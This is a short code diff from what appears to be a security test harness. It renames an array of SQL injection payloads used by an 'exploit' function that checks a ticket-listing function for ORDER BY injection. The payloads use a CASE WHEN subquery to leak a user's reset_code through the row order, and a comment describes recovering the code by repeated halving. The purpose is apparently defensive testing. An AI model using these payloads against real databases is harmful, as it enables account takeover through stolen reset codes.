@@ -22,10 +22,10 @@ export async function works({ listTickets }: Code) {
 }
 
 const question = '(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > 500000 THEN id ELSE -id END)'
-const attacks = [question, `asc, ${question}`, `priority", ${question}, "id`]
+const forms = [question, `asc, ${question}`, `priority", ${question}, "id`]
 
 /** Whether the code is above 500000 can be read from the order. Halving the range again and again finds the code. */
-export async function exploit({ listTickets }: Code, _vary?: unknown, payloads = attacks): Promise<boolean> {
+export async function exploit({ listTickets }: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
   const tickets = `INSERT INTO tickets VALUES (1, 4, 'A', 'open', 2, NULL, '2026-01-01'), (2, 4, 'B', 'open', 2, NULL, '2026-01-01')`
   const askWith = async (code: number, query: { sort: string; direction: string }) => {
     const [first] = await listTickets(createPool(`${tables.replace('483920', String(code))} ${tickets}`), 4, query)
